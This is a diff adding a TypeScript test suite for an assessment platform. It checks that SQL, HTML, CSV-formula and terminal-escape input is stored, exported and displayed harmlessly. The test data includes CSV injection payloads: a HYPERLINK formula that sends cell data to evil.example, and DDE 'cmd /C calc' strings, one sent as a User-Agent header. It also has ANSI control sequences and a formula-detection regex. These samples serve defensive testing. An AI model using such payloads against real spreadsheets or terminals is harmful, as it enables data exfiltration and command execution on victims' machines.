@@ -1,0 +1,425 @@
+import { execFile } from 'node:child_process'
+import { randomUUID } from 'node:crypto'
+import { promisify } from 'node:util'
+import { parse } from 'csv-parse/sync'
+import fc from 'fast-check'
+import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest'
+import { exportDaily, importDaily } from '../../daily/server/brainteasers.ts'
+import { withOutput } from '../../platform/command/files.ts'
+import { guardStream, showControls } from '../../platform/command/terminal.ts'
+import { readCsv, writeCsv } from '../../platform/server/csv.ts'
+import { PROJECT_DIR } from '../../platform/server/project-folder.ts'
+import {
+  exportQuestions,
+  importQuestions,
+  QUESTION_COLUMNS,
+} from '../../practice/server/question-csv.ts'
+import { ITEM_COLUMNS } from '../../societies/server/assessment-file.ts'
+import { exportLate } from '../../societies/server/late.ts'
+import { loadAssessment } from '../../societies/server/load.ts'
+import { exportAnswers, exportEvents, exportResults } from '../../societies/server/results.ts'
+import { importRoster } from '../../societies/server/roster.ts'
+import { DAY, makeAssessment, makeCandidate, startedSeat, takeSeat } from '../rig/assessment-rig.ts'
+import { HOSTILE_TEXTS } from '../rig/attack-rig.ts'
+import { authCall, getUser, PASSWORD, signIn, watchLog } from '../rig/auth-rig.ts'
+import { fillBank } from '../rig/bank-fixture.ts'
+import { organiserOf, passwordKeeper } from '../rig/organiser-rig.ts'
+import { signUp, useRig } from '../rig/rig.ts'
+
+const rig = useRig()
+watchLog(rig)
+beforeAll(() => fillBank(rig))
+
+const tables = async () => {
+  const { rows } = await rig.db.$client.query(
+    "select count(*)::int as n from information_schema.tables where table_schema = 'public'",
+  )
+  return rows[0].n
+}
+
+describe('SQL and HTML come back as the text they are:', () => {
+  it('in every field of the metadata, by sign-up, by change, in the token and in the export', async () => {
+    const before = await tables()
+    const data = Object.fromEntries(HOSTILE_TEXTS.map((text, n) => [`${n} ${text}`, text]))
+    for (const text of HOSTILE_TEXTS) {
+      const given = { ...data, degree: text, university: text }
+      const email = `text-${randomUUID().slice(0, 8)}@example.com`
+      const { body } = await rig.call('POST', '/auth/v1/signup', {
+        body: { data: given },
+      })
+      expect(body.user.user_metadata).toEqual(given)
+      const { token } = await signUp(rig, email, `${text.slice(0, 100)} as a password`)
+      await authCall(rig, 'PUT', '/user', { data: given }, { token })
+      expect((await getUser(rig, token)).body.user_metadata).toMatchObject(given)
+      const held = await rig.call('GET', '/api/profile/export', { token })
+      expect(held.body.users[0].metadata).toEqual(given)
+      expect((await signIn(rig, email, `${text.slice(0, 100)} as a password`)).status).toBe(200)
+    }
+    expect(await tables()).toBe(before)
+  })
+
+  it('in reports, which editors read', async () => {
+    const { token, userId } = await signUp(rig)
+    for (const details of HOSTILE_TEXTS) {
+      const body = { id: randomUUID(), reason: 'other', details }
+      expect((await rig.call('POST', '/api/questions/2001/reports', { token, body })).status).toBe(
+        200,
+      )
+    }
+    const { rows } = await rig.db.$client.query(
+      'select details from question_reports where user_id = $1',
+      [userId],
+    )
+    expect(rows.map(({ details }) => details).sort()).toEqual([...HOSTILE_TEXTS].sort())
+  })
+
+  it('in what is looked for: addresses, names, cells, scopes', async () => {
+    const before = await tables()
+    const { token } = await signUp(rig, 'looked@example.com')
+    const { code } = await makeAssessment(rig)
+    for (const text of HOSTILE_TEXTS) {
+      expect((await signIn(rig, text)).body.code).toBe('invalid_credentials')
+      const query = new URLSearchParams({ category: text, difficulty: text })
+      for (const path of ['questions', 'results']) {
+        const { status, body } = await rig.call('GET', `/api/${path}?${query}`, { token })
+        expect([status, body]).toEqual([200, []])
+      }
+      const verified = await rig.call('POST', `/api/assessments/${code}/verify`, {
+        token,
+        body: { username: text, password: text },
+      })
+      expect(verified.body.code).toBe('invalid_credentials')
+    }
+    expect((await signIn(rig, 'looked@example.com', PASSWORD)).status).toBe(200)
+    expect(await tables()).toBe(before)
+  })
+
+  it('in names of candidates, from the file to the result, and each can sign in', async () => {
+    const { code } = await makeAssessment(rig)
+    const csv = writeCsv(
+      ['username'],
+      HOSTILE_TEXTS.map((name) => [name]),
+    )
+    const { issued, deliver } = passwordKeeper()
+    const { secretKey } = rig.dependencies
+    await importRoster(organiserOf(rig), code, csv, { secretKey, deliver })
+    expect(issued.map(({ username }) => username)).toEqual(HOSTILE_TEXTS)
+    const { token } = await signUp(rig)
+    for (const body of issued) {
+      expect(
+        (await rig.call('POST', `/api/assessments/${code}/verify`, { token, body })).status,
+      ).toBe(200)
+    }
+    await closeFor(code)
+    expect(usersIn((await exportResults(organiserOf(rig), code)).csv)).toEqual(
+      new Set(HOSTILE_TEXTS),
+    )
+  })
+
+  it("in a society's own test, from its files to the candidate's screen", async () => {
+    const code = `H${randomUUID().slice(0, 8).toUpperCase()}`
+    const quoted = HOSTILE_TEXTS.map((text) => JSON.stringify(text))
+    const yaml = `
+code: ${code}
+society: ${quoted[4]}
+session: ${quoted[0]}
+durationSeconds: 900
+shuffle: false
+navigator: false
+timeZone: Europe/Lisbon
+rules: { timing: [${quoted}], allowed: [${quoted}], forbidden: [${quoted}], contact: ${quoted[5]} }
+`
+    const itemsCsv = writeCsv(
+      ITEM_COLUMNS,
+      HOSTILE_TEXTS.map((text, n) => [n + 1, text, 'a', text, 'c', 'd', 'B']),
+    )
+    await loadAssessment(organiserOf(rig), { yaml, itemsCsv })
+    const { username } = await makeCandidate(rig, code)
+    const seat = await takeSeat(rig, code, username)
+    const { body } = await seat.start()
+    expect(body.questions.map(({ question }: { question: string }) => question)).toEqual(
+      HOSTILE_TEXTS,
+    )
+    expect(body.questions.map(({ options }: { options: { B: string } }) => options.B)).toEqual(
+      HOSTILE_TEXTS,
+    )
+    const list = await rig.call('GET', '/api/assessments', { token: seat.token })
+    const listed = list.body.find((one: { code: string }) => one.code === code)
+    expect(listed).toMatchObject({ society: HOSTILE_TEXTS[4], session: HOSTILE_TEXTS[0] })
+    expect(listed.rules).toMatchObject({ timing: HOSTILE_TEXTS, contact: HOSTILE_TEXTS[5] })
+  })
+
+  it('in what a page reports of itself', async () => {
+    const { seat } = await startedSeat(rig)
+    const keys = HOSTILE_TEXTS.map((text) => text.slice(0, 40))
+    for (const [n, key] of keys.entries()) {
+      await seat.report({ id: n + 1, kind: 'ready', at: n, detail: { key } })
+    }
+    const { rows } = await rig.db.$client.query(
+      "select detail from attempt_events where user_id = $1 and kind = 'ready' order by id",
+      [seat.userId],
+    )
+    expect(rows.map(({ detail }) => detail.key)).toEqual(keys)
+  })
+})
+
+describe("what PostgreSQL cannot store is refused as the sender's mistake, not as ours:", () => {
+  it.each(['a\0b', '\ud800', '\udc00\ud800'])('%j in a text', async (text) => {
+    const { seat } = await startedSeat(rig)
+    const { token } = seat
+    const encoded = encodeURIComponent('a\0b')
+    const answers = [
+      await rig.call('POST', '/api/questions/2001/reports', {
+        token,
+        body: { id: randomUUID(), reason: 'other', details: text },
+      }),
+      await rig.call('POST', `/api/assessments/${seat.code}/verify`, {
+        token,
+        body: { username: text, password: text },
+      }),
+      await seat.report({ id: 1, kind: 'ready', at: 0, detail: { key: text } }),
+      await rig.call('GET', `/api/results?category=${encoded}&difficulty=${encoded}`, { token }),
+    ]
+    for (const { status, body } of answers)
+      expect([status, body.code]).toEqual([400, 'bad_request'])
+    for (const data of [{ degree: text }, { [text]: 1 }]) {
+      const answer = await authCall(rig, 'PUT', '/user', { data }, { token })
+      expect(answer).toMatchObject({ status: 400, body: { code: 'validation_failed' } })
+    }
+  })
+})
+
+/** As if everybody on the roster had sat the test and submitted. */
+async function closeFor(code: string): Promise<void> {
+  await rig.db.$client.query(
+    `insert into attempts (id, assessment, candidate_id, paper, started_at, deadline_at, submitted_at,
+       submit_reason, window_id, is_demo)
+     select gen_random_uuid(), $1, c.id,
+       array(select i.id from assessment_items i where i.assessment = $1), $2,
+       $2::timestamptz + interval '20 min', $2::timestamptz + interval '9 min', 'candidate', 'w', false
+     from candidates c where c.assessment = $1`,
+    [code, DAY],
+  )
+}
+
+const cellsOf = (csv: string): string[] => (parse(csv) as string[][]).flat()
+const usersIn = (csv: string) =>
+  new Set(readCsv(csv, { required: [...headerOf(csv)] }).rows.map(({ cells }) => cells.user))
+const headerOf = (csv: string) => (parse(csv, { to: 1 }) as string[][])[0] as string[]
+
+/** What Excel, LibreOffice or Sheets would run, or read as the beginning of what they run. */
+const RUNS_AS_FORMULA = /^[=+\-@\t\r\n＝＋－＠]/
+
+const FORMULAS = [
+  '=HYPERLINK("https://evil.example?"&A1;"click")',
+  '+351912345678',
+  '-2+3+cmd|" /C calc"!A0',
+  '@SUM(1+1)*cmd|" /C calc"!A0',
+  '＝1+1',
+  "'=1+1",
+  "''+1",
+  "O'Neill = Ana",
+]
+
+describe('formulas in CSV files', () => {
+  it('are harmless in every cell that is written, and every text comes back as it was', () => {
+    const lead = fc.constantFrom(
+      '=',
+      '+',
+      '-',
+      '@',
+      '\t',
+      '\r',
+      '\n',
+      '＝',
+      "'",
+      "''",
+      ' ',
+      'a',
+      '"',
+      ',',
+    )
+    const cell = fc
+      .tuple(lead, lead, fc.string({ maxLength: 8 }))
+      .map(([first, second, rest]) => first + second + rest)
+    fc.assert(
+      fc.property(fc.array(cell, { minLength: 1, maxLength: 5 }), (texts) => {
+        const csv = writeCsv(
+          ['text', 'end'],
+          texts.map((text) => [text, '.']),
+        )
+        for (const written of cellsOf(csv)) expect(written).not.toMatch(RUNS_AS_FORMULA)
+        const { rows } = readCsv(csv, { required: ['text', 'end'] })
+        expect(rows.map(({ cells }) => cells.text)).toEqual(texts.map((text) => text.trim()))
+      }),
+      { seed: 20_260_302, numRuns: 300 },
+    )
+  })
+
+  it('are harmless in results, answers, late answers, events and passwords', async () => {
+    const { code } = await makeAssessment(rig)
+    const roster = writeCsv(
+      ['username'],
+      FORMULAS.map((name) => [name]),
+    )
+    const { issued, deliver } = passwordKeeper()
+    const { secretKey } = rig.dependencies
+    await importRoster(organiserOf(rig), code, roster, { secretKey, deliver })
+    expect(issued.map(({ username }) => username)).toEqual(FORMULAS)
+    for (const { password } of issued) expect(password).not.toMatch(RUNS_AS_FORMULA)
+
+    const { token } = await signUp(rig)
+    for (const [n, body] of issued.entries()) {
+      await rig.call('POST', `/api/assessments/${code}/verify`, {
+        token,
+        body,
+        headers: { 'User-Agent': n % 2 ? '=cmd|" /C calc"!A0' : '@SUM(1)' },
+      })
+    }
+    await closeFor(code)
+    await rig.db.$client.query(
+      `insert into attempt_events (candidate_id, attempt_id, kind, window_id, at_ms, detail,
+         void_reason, received_at)
+       select a.candidate_id, a.id, 'late_answer', 'w', 1, jsonb_build_object('questionId', a.paper[1],
+         'choice', 'A', 'revision', 1), '=1+1', $2 from attempts a where a.assessment = $1`,
+      [code, DAY],
+    )
+    const organiser = organiserOf(rig)
+    const events: string[] = []
+    await exportEvents(organiser, code, {}, (piece) => void events.push(piece))
+    const files = {
+      results: (await exportResults(organiser, code)).csv,
+      answers: (await exportAnswers(organiser, code)).csv,
+      late: (await exportLate(organiser, code)).csv,
+      events: events.join(''),
+    }
+    for (const [name, csv] of Object.entries(files)) {
+      const cells = cellsOf(csv)
+      expect(cells.length, name).toBeGreaterThan(FORMULAS.length)
+      expect(
+        cells.filter((cell) => RUNS_AS_FORMULA.test(cell)),
+        name,
+      ).toEqual([])
+      expect(usersIn(csv), name).toEqual(new Set(FORMULAS))
+    }
+  })
+
+  it('are harmless in exported questions, which come back as they were', async () => {
+    const rows = FORMULAS.map((text) => [
+      '',
+      'Financial Markets & Instruments',
+      'Analyst',
+      text,
+      ...FORMULAS.slice(0, 4),
+      'B',
+      text,
+    ])
+    await importQuestions(rig.db, writeCsv(QUESTION_COLUMNS, rows))
+    const stored = async () =>
+      (await rig.db.$client.query('select * from questions where id >= 100000 order by id')).rows
+    const before = await stored()
+    expect(before.map(({ question }) => question)).toEqual(FORMULAS)
+    expect(before[0]).toMatchObject({ answer_b: FORMULAS[1], explanation: FORMULAS[0] })
+
+    const csv = await exportQuestions(rig.db)
+    expect(cellsOf(csv).filter((cell) => RUNS_AS_FORMULA.test(cell))).toEqual([])
+    // Over rows that differ, so that an import which changed nothing would not pass.
+    await rig.db.$client.query("update questions set question = '?' where id >= 100000")
+    expect(await importQuestions(rig.db, csv)).toMatchObject({ changed: FORMULAS.length })
+    expect(await stored()).toEqual(before)
+  })
+
+  it('are harmless in exported brainteasers, which come back as they were', async () => {
+    const header = ['Date', 'Statement', 'A', 'B', 'C', 'D', 'Correct', 'Explanation']
+    const rows = FORMULAS.map((text, n) => [
+      `${n + 1}/3/27`,
+      text,
+      ...FORMULAS.slice(0, 4),
+      'B',
+      text,
+    ])
+    const stored = async () => (await rig.db.$client.query('select * from daily_brainteasers')).rows
+    await importDaily(rig.db, writeCsv(header, rows), DAY)
+    const before = await stored()
+    expect(before.map(({ statement }) => statement)).toEqual(FORMULAS)
+    const csv = await exportDaily(rig.db)
+    expect(cellsOf(csv).filter((cell) => RUNS_AS_FORMULA.test(cell))).toEqual([])
+    await rig.db.$client.query('delete from daily_brainteasers')
+    await importDaily(rig.db, csv, DAY)
+    expect(await stored()).toEqual(before)
+  })
+})
+
+/** What a terminal would obey: a new title, a cleared screen, a colour, a line written over, text reversed. */
+const OBEYED =
+  'a\u001b]0;owned\u0007b\u001b[2Jc\u009b31md\u0085e\r\bf\u007fg\u202eh\u2066i\nno  new report'
+const SHOWN =
+  'a\\x1b]0;owned\\x07b\\x1b[2Jc\\x9b31md\\x85e\\x0d\\x08f\\x7fg\\u202eh\\u2066i\n   no  new report'
+/** No more of it may leave a command than line breaks and tabs. */
+const CONTROLS = /(?![\n\t])[\p{Cc}\u202a-\u202e\u2066-\u2069]/u
+
+describe('on the terminal of an organiser', () => {
+  /** `npm run admin -- …` in a process of its own. */
+  const admin = (...args: string[]) =>
+    promisify(execFile)(process.execPath, ['--import', 'tsx', 'app/command/admin.ts', ...args], {
+      cwd: PROJECT_DIR,
+      env: {
+        ...process.env,
+        DATABASE_URL: rig.databaseUrl,
+        SECRET_KEY: Buffer.alloc(32).toString('base64'),
+      },
+    })
+  afterEach(() => vi.restoreAllMocks())
+
+  it('a report, a name and an error do nothing but show their control characters', async () => {
+    const { token } = await signUp(rig)
+    const body = { id: randomUUID(), reason: 'other', details: OBEYED }
+    await rig.call('POST', '/api/questions/2001/reports', { token, body })
+    const { code } = await makeAssessment(rig)
+    await makeCandidate(rig, code, OBEYED.replaceAll('\n', ' '))
+
+    const reports = await admin('questions', 'reports')
+    expect(reports.stdout).toContain(`  “${SHOWN}”\n`)
+    const status = await admin('assessments', 'status', code)
+    expect(status.stdout).toContain('Not here yet: a\\x1b]0;owned')
+    const refused = await admin('questions', 'resolve', OBEYED).catch((error) => error)
+    expect(refused.stderr).toContain('There is no report')
+    expect(refused.stderr).toContain('\\x1b]0;owned')
+    for (const { stdout, stderr } of [reports, status, refused]) {
+      expect(stdout + stderr).not.toMatch(CONTROLS)
+    }
+  })
+
+  it('an export does as well, and is as it was in a file or a pipe', async () => {
+    const { stdout } = process
+    const written: unknown[] = []
+    vi.spyOn(stdout, 'write').mockImplementation((chunk) => written.push(chunk) > 0)
+    const terminal = { isTTY: stdout.isTTY, write: stdout.write }
+    guardStream(stdout)
+    try {
+      for (const isTTY of [true, false]) {
+        stdout.isTTY = isTTY
+        await withOutput(undefined, (write) => write(OBEYED))
+      }
+    } finally {
+      Object.assign(stdout, terminal)
+    }
+    expect(written.map(String)).toEqual([showControls(OBEYED), OBEYED])
+    expect(showControls(OBEYED)).not.toMatch(CONTROLS)
+  })
+
+  it('every control character but line break and tab is shown, and no other text is touched', () => {
+    const all = Array.from({ length: 0xd800 }, (_, code) => String.fromCharCode(code))
+    const changed = all.filter((character) => showControls(character) !== character)
+    const range = (from: number, to: number) => all.slice(from, to + 1)
+    expect(changed).toEqual([
+      ...range(0, 8),
+      ...range(11, 31),
+      ...range(127, 159),
+      ...range(0x202a, 0x202e),
+      ...range(0x2066, 0x2069),
+    ])
+    expect(changed.map(showControls).join('')).toMatch(/^(\\x[0-9a-f]{2}|\\u[0-9a-f]{4})+$/)
+    expect(showControls('Zoë 漢字 🙂 =1+1 \\x1b')).toBe('Zoë 漢字 🙂 =1+1 \\x1b')
+  })
+})
